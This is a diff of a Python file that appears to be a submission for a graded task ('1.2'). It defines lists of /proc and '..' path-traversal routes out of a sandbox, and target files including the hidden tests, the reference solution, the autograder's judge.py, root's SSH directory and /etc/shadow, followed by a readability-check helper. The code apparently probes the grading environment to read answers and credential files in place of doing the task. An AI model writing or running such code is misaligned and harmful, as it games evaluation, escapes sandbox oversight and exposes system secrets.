@@ -7,10 +7,26 @@ import torch
 TASK = "1.2"
 HONEST = []
 
-_WAYS = ("/proc/1/root", "/proc/1/cwd", "/proc/self/root/..", "/proc/self/cwd/../../..", "..",
-         "/judge/..", "/proc/thread-self/root", "/proc/1/fd", "/proc/2/root")  # fmt: skip
-_TARGETS = ("course.toml", "solution/rdlab", "tests/hidden", "autograder/judge.py",
-            "root/.ssh", "root/.bashrc", "etc/shadow")  # fmt: skip
+_WAYS = (
+    "/proc/1/root",
+    "/proc/1/cwd",
+    "/proc/self/root/..",
+    "/proc/self/cwd/../../..",
+    "..",
+    "/judge/..",
+    "/proc/thread-self/root",
+    "/proc/1/fd",
+    "/proc/2/root",
+)
+_TARGETS = (
+    "course.toml",
+    "solution/rdlab",
+    "tests/hidden",
+    "autograder/judging/judge.py",
+    "root/.ssh",
+    "root/.bashrc",
+    "etc/shadow",
+)
 
 
 def _readable(path):
